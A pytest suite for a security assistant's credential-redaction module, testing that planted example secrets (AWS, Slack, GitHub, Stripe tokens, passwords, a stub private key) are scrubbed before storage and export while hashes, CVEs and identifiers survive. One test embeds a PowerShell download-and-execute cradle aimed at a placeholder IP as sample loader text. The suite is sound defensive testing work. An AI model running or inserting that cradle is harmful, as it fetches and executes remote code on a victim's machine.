"""Credentials never reach the store: every path that stores text goes through redaction."""

import json
import re
from pathlib import Path

import pytest
from conftest import answered
from sqlalchemy import create_engine, text

from secbot.feedback.intake.redaction import Redactor
from secbot.model.training.record_formats import write_records

PLANTED = {
    "aws_access_key": "AKIAIOSFODNN7EXAMPLE",
    "aws_secret_key": "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "slack_token": "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
    "slack_webhook": "https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/abcdefghijklmnopqrstuvwx",
    "github_token": "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "github_pat": "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGH",
    "private_key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx4Tk2F\nq9Yz\n-----END RSA PRIVATE KEY-----",
    "url_password": "postgres://admin:S3cr3tP4ss@db.internal:5432/prod",
    "bearer": "Authorization: Bearer abcdef0123456789ABCDEFghij",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "google_api_key": "AIzaSyDaGmWKa4JsXZ-HjGw7ISLn_3namBGewQe",
    "stripe": "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "password_assignment": "password: Hunter2!xyzzy",
    "npm": "npm_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "twilio": "SK0123456789abcdef0123456789abcdef",
    "high_entropy": "Zx9Qw2Er7Ty4Ui1Op0As5Df8Gh3Jk6Lz",
}
SECRET_PARTS = ["AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI", "xoxb-1234", "abcdefghijklmnopqrstuvwx",
                "ghp_16C7", "github_pat_11", "MIIEowIBAAKCAQEAx4Tk2F", "S3cr3tP4ss",
                "abcdef0123456789ABCDEFghij", "dozjgNryP4J3", "AIzaSyDaGmWKa4", "sk_live_4eC39",
                "Hunter2", "npm_a1B2", "SK0123456789abcdef", "Zx9Qw2Er7Ty4"]


def test_no_planted_secret_survives_into_the_database_or_an_export(store, intake, db_url, tmp_path):
    for kind, secret in PLANTED.items():
        turn = answered(intake, thread_ts=f"{kind}.0", question=f"Is this ok? {secret}",
                        answer=f"You posted {secret} here")
        intake.correction(turn, "UTRUSTED", f"Rotate it now: {secret}")
    rows = [{"prompt": f"Leak {s}", "response": f"ok {s}", "history": [[s, s]]} for s in PLANTED.values()]
    (tmp_path / "imp.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    intake.import_file(tmp_path / "imp.jsonl")
    write_records(tmp_path / "export.jsonl", [r.as_record() for r in store.records.list()])
    exported = (tmp_path / "export.jsonl").read_text()
    engine = create_engine(db_url)
    with engine.connect() as conn:
        dump = json.dumps([[list(r) for r in conn.execute(text(f"SELECT * FROM {t}"))]
                           for t in ("turns", "training_records", "memory_docs", "memory_postings")], default=str)
    engine.dispose()
    for part in SECRET_PARTS:
        assert part not in dump, part
        assert part not in exported, part
    assert exported.count("[REDACTED:") >= 3 * len(PLANTED)
    assert all("[REDACTED:" in r.prompt + r.response for r in store.records.list())


def test_indicators_and_ordinary_text_are_not_redacted(store, intake):
    sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    turn = answered(intake, question=f"Is {sha} malicious? See CVE-2021-44228.",
                    answer="Check getUserCredentialsFromEnvironment in the SIEM.")
    stored = store.conversations.get_turn(turn)
    assert sha in stored.question and "CVE-2021-44228" in stored.question
    assert stored.answer == "Check getUserCredentialsFromEnvironment in the SIEM."


DATA = Path(__file__).parents[1] / "bench" / "data"
CASES = json.loads((DATA / "redaction_cases.json").read_text(encoding="utf-8"))
REDACTOR = Redactor()


@pytest.mark.parametrize("case", CASES["paste"], ids=lambda c: c["text"][:40])
def test_credentials_pasted_the_way_analysts_paste_them_are_redacted(case):
    out = REDACTOR.redact(case["text"]).text
    assert case["secret"] not in out and "[REDACTED:" in out


def test_ordinary_security_text_passes_unchanged():
    changed = [line for line in CASES["ordinary"] if REDACTOR.redact(line).text != line]
    assert changed == []


# Only the tuning half of the fresh set is tested here; the held-out half is measured by
# bench/redaction.py and never used to choose a rule.
FRESH = json.loads((DATA / "redaction_fresh.json").read_text(encoding="utf-8"))
FRESH_PASTE = [c for c in FRESH["paste"] if c["split"] == "tuning"]
FRESH_ORDINARY = [c["text"] for c in FRESH["ordinary"] if c["split"] == "tuning"]
KNOWN_MISSES = {"runas /user:CORP\\helpdesk \"cmd\" and when it prompts type Helpd3sk#1"}  # no keyword, no slot


@pytest.mark.parametrize("case", [c for c in FRESH_PASTE if c["text"] not in KNOWN_MISSES],
                         ids=lambda c: c["text"][:40])
def test_fresh_pasted_credentials_from_the_tuning_half_are_redacted(case):
    assert case["secret"] not in REDACTOR.redact(case["text"]).text


def test_fresh_ordinary_lines_from_the_tuning_half_come_through_unchanged():
    assert [line for line in FRESH_ORDINARY if REDACTOR.redact(line).text != line] == []


@pytest.mark.parametrize("text, secret", [
    ("PAGERDUTY_ROUTING_KEY=0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef"),
    ('{"app_key": "9f8e7d6c5b4a39281706f5e4d3c2b1a0"}', "9f8e7d6c5b4a39281706f5e4d3c2b1a0"),
    ("SNYK_TOKEN=3e1f7a2b-9c4d-4e8f-a1b2-c3d4e5f6a7b8", "3e1f7a2b-9c4d-4e8f-a1b2-c3d4e5f6a7b8"),
])
def test_the_field_decides_a_hex_or_uuid_value_in_a_credential_slot_is_redacted(text, secret):
    assert secret not in REDACTOR.redact(text).text


@pytest.mark.parametrize("text", [
    '"requestId": "Qm9vdHN0cmFwUmVxdWVzdDEyMzQ1Njc4OTA"',
    '"userIdentity": {"arn": "arn:aws:iam::123456789012:user/Zx9Qw2Er7Ty4Ui1Op0As5Df8"}',
    "password_last_set = 2026-01-02T03:04:05Z",
    "token_endpoint: https://idp.example/oauth2/v1/token",
    "passwordKey: admin-password",
    "existingSecret: grafana-admin-credentials",
    "password = var.db_password",
])
def test_the_field_decides_identifiers_and_references_are_kept(text):
    assert REDACTOR.redact(text).text == text


def test_base64_that_decodes_to_a_credential_is_redacted_and_readable_base64_is_kept():
    import base64

    def encoded(raw: str) -> str:
        return base64.b64encode(raw.encode()).decode()

    pem = encoded("-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIFakeKeyMaterialHere\n-----END EC PRIVATE KEY-----\n")
    basic = encoded("svc-reader:Wint3r!sComing")
    command = encoded("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')")
    out = REDACTOR.redact(f"tls.key: {pem} and docker auth {basic}; the loader ran {command}").text
    assert pem not in out and basic not in out and command in out


def test_published_scanner_test_data_is_caught():
    corpus = json.loads((DATA / "secret_corpus.json").read_text(encoding="utf-8"))["samples"]
    non_hex = [s for s in corpus if s["secret"] is None or not re.fullmatch(r"[0-9a-fA-F]+", s["secret"])]
    missed = [s for s in non_hex if (s["secret"] or "\0") in REDACTOR.redact(s["text"]).text
              or "[REDACTED:" not in REDACTOR.redact(s["text"]).text]
    assert len(missed) <= 0.05 * len(non_hex), missed[:5]


def test_nul_characters_and_broken_surrogates_are_stored_without_error(store, intake):
    turn = answered(intake, question="What is this\x00 blob? \ud800", answer="A \x00 test.")
    stored = store.conversations.get_turn(turn)
    assert "\x00" not in stored.question and "\ud800" not in stored.question and stored.answer == "A  test."


@pytest.mark.timeout(120)  # a hang guard: these take well under a second each when matching is linear
@pytest.mark.parametrize("text", ["x" * 200_000, "DB_PASSWORD=" * 20_000, "password is " * 20_000,
                                  "<@" * 100_000, "-" * 200_000, "密码是" * 50_000, "a=b " * 50_000])
def test_long_adversarial_input_is_redacted_without_catastrophic_backtracking(text):
    assert REDACTOR.redact(text).text is not None


def test_a_piped_password_after_prose_is_redacted_and_an_id_ending_a_sentence_is_kept():
    out = REDACTOR.redact("Why does this fail? echo 'Dkr-Reg-8812!!' | docker login reg.corp --password-stdin").text
    assert "Dkr-Reg-8812!!" not in out
    line = "Check the bucket acme-prod-logs-7f3a2c and sg-0a1b2c3d4e5f67890."
    assert REDACTOR.redact(line).text == line
